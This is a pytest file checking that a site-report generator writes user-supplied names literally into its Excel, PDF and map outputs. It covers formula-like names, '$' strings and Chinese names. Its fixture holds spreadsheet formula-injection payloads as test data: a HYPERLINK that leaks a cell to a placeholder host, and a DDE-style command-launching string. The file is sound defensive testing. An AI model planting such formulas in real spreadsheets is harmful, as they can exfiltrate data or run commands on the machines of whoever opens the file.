"""One user's text is data to every other user (issue 22): names that look like spreadsheet
formulas, maths markup or Markdown, and names in Chinese, reach every sink of the report as
the text they are.

Each check reads the output back independently of the code that wrote it: the workbook's XML
(a formula is an ``<f>`` element there, whatever openpyxl makes of it), the PDF's text and
font resources (pypdf), the drawn width of a map label against the same label with its ``$``
signs replaced by a glyph of the same width.
"""
from __future__ import annotations

import io
import re
import shutil
import warnings
import zipfile
from pathlib import Path

import pandas as pd
import pytest

import optimizer

ROOT = Path(__file__).resolve().parents[1]
TINY = ROOT / "tests" / "fixtures" / "tiny"


def renamed_tiny(folder: Path, names: dict[str, str]) -> Path:
    """The tiny fixture with its names replaced (old -> new) in every table."""
    shutil.copytree(TINY, folder)
    for csv in folder.glob("*.csv"):
        text = csv.read_text(encoding="utf-8")
        frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
        frame = frame.map(lambda v: names.get(v, v))
        frame.to_csv(csv, index=False)
    return folder


FORMULA_NAMES = {
    "Texas West": '=HYPERLINK("http://example.com/?leak="&A1,"Texas West")',
    "Ekibastuz": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Quebec Hydro": "+7 Energy Quebec",
    "Georgia Tbilisi": "-Georgia Tbilisi",
    "Georgia": "=1+1",
    "Antminer S19": "=Antminer S19",
}


def test_workbook_stores_formula_like_names_as_text(tmp_path):
    from workspace.report import build_report

    scn = optimizer.load_scenario(renamed_tiny(tmp_path / "scn", FORMULA_NAMES))
    res = optimizer.solve(scn)
    data = build_report(scn, res).xlsx()
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            xml = zf.read(name).decode("utf-8")
            assert not re.search(r"<(\w+:)?f[ >]", xml), f"{name} holds a formula"
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(data))
    texts = {c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    used = set(res.allocation["site"]) | set(res.allocation["model"]) | set(res.sites["site"])
    for new in FORMULA_NAMES.values():
        if new in used or new == "=1+1":
            assert new in texts, new  # the name as typed, not an apostrophe-mangled or evaluated one


# ---------------------------------------------------------------- the map and the PDF


def _width(fig, text) -> float:
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    canvas = FigureCanvasAgg(fig)
    canvas.draw()
    return text.get_window_extent(canvas.get_renderer()).width


def test_map_draws_dollar_names_literally():
    from matplotlib.figure import Figure

    from workspace import mapimage

    names = {"Texas West": "Ba$$in Hosting TX", "Quebec Hydro": "Quebec $0.04 power + $5 host"}
    scn = optimizer.load_scenario(TINY)
    scn.sites["site"] = scn.sites["site"].replace(names)
    res = optimizer.solve(scn)
    png = mapimage.render_png(scn.origins, scn.sites, res.sites, res.allocation)  # "Ba$$in" made mathtext raise
    assert png.startswith(b"\x89PNG")
    fig = mapimage.map_figure(scn.origins, scn.sites, res.sites, res.allocation)
    checked = 0
    for name in names.values():
        if name not in set(res.sites.loc[res.sites["mw_used"] > 1e-6, "site"]):
            continue
        # the same text with "$" replaced by "S" (the same advance width in DejaVu Sans), drawn as plain text
        ref = Figure(dpi=fig.dpi)
        want = _width(ref, ref.text(0, 0, name.replace("$", "S"), fontsize=6.5, fontfamily="DejaVu Sans", parse_math=False))
        [label] = [t for t in fig.axes[0].texts if t.get_text() == name]
        assert _width(fig, label) == pytest.approx(want, rel=0.03), name
        checked += 1
    assert checked


def _cjk_font_available() -> bool:
    from workspace import mapimage

    return len(mapimage.label_fonts()) > 1


CJK = {"Texas West": "德州西部", "Texas": "德克萨斯州", "Quebec Hydro": "魁北克水电", "Sichuan": "四川",
       "Ekibastuz": "Екібастұз"}


@pytest.mark.skipif(not _cjk_font_available(), reason="no CJK font: run `make report-libs` (fonts-noto-cjk)")
def test_map_has_a_glyph_for_every_chinese_name():
    from workspace import mapimage

    scn = optimizer.load_scenario(TINY)
    scn.sites["site"] = scn.sites["site"].replace(CJK)
    res = optimizer.solve(scn)
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # matplotlib warns "Glyph ... missing from font(s)" for every box it draws
        png = mapimage.render_png(scn.origins, scn.sites, res.sites, res.allocation)
    assert png.startswith(b"\x89PNG")


@pytest.mark.skipif(not _cjk_font_available(), reason="no CJK font: run `make report-libs` (fonts-noto-cjk)")
def test_pdf_holds_chinese_names_in_an_embedded_cjk_font(tmp_path):
    pytest.importorskip("weasyprint")
    import pypdf

    from workspace.report import build_report

    scn = optimizer.load_scenario(renamed_tiny(tmp_path / "scn", CJK))
    res = optimizer.solve(scn)
    try:
        pdf = build_report(scn, res).pdf()
    except OSError as exc:  # WeasyPrint without Pango
        pytest.skip(f"WeasyPrint cannot run here: {exc}")
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    text = " ".join(p.extract_text() for p in reader.pages)
    used = set(res.sites.loc[res.sites["mw_used"] > 1e-6, "site"])
    for name in ("德州西部", "德克萨斯州", "四川"):
        assert name in text, name
    assert "德州西部" in used
    fonts = {}
    for page in reader.pages:
        for font in (page["/Resources"].get("/Font") or {}).values():
            font = font.get_object()
            for desc in font.get("/DescendantFonts", [font]):
                desc = desc.get_object()
                fd = desc.get("/FontDescriptor")
                fonts[str(font["/BaseFont"])] = fd is not None and any(k in fd.get_object() for k in
                                                                       ("/FontFile", "/FontFile2", "/FontFile3"))
    cjk = {name: embedded for name, embedded in fonts.items() if "CJK" in name}
    assert cjk and all(cjk.values()), fonts
